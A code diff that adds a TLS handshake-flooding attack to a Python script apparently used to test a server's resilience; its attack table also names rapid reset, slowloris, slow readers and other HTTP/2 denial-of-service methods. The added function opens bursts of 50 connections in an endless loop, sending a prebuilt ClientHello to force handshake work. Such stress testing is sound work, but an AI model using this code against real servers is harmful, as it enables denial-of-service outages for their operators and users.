@@ -6,6 +6,7 @@ import contextlib
 import resource
 import select
 import socket
+import ssl
 import struct
 import sys
 import time
@@ -17,6 +18,8 @@ DATA, HEADERS, RST_STREAM, SETTINGS, PING, WINDOW_UPDATE, CONTINUATION = 0, 1, 3
 END_STREAM, END_HEADERS = 1, 4
 #: Connections of the attacks that hold them.
 HELD = 400
+#: Handshakes that begin at once.
+BURST = 50
 
 
 def frame(kind: int, flags: int, stream: int, payload: bytes = b"") -> bytes:
@@ -143,6 +146,22 @@ def slow_readers(port: int) -> None:
     held(port, begin, step)
 
 
+def handshakes(port: int) -> None:
+    """Begins handshakes and leaves the work of each to the edge."""
+    hello = ssl.MemoryBIO()
+    context = ssl.SSLContext(ssl.PROTOCOL_TLS_CLIENT)
+    with contextlib.suppress(ssl.SSLWantReadError):
+        context.wrap_bio(ssl.MemoryBIO(), hello, server_hostname="localhost").do_handshake()
+    first = hello.read()
+    while True:
+        with contextlib.ExitStack() as stack, contextlib.suppress(OSError):
+            burst = [stack.enter_context(connect(port)) for _ in range(BURST)]
+            for sock in burst:
+                sock.sendall(first)
+            for sock in burst:
+                sock.recv(65_536)
+
+
 ATTACKS: dict[str, Callable[[int], None]] = {
     "rapid reset": rapid_reset,
     "made-you-reset": made_you_reset,
@@ -152,7 +171,10 @@ ATTACKS: dict[str, Callable[[int], None]] = {
     "window stall": window_stall,
     "slowloris": slowloris,
     "slow readers": slow_readers,
+    "TLS handshakes": handshakes,
 }
+#: Those on the listener with TLS.
+SECURED = {"TLS handshakes"}
 
 
 if __name__ == "__main__":
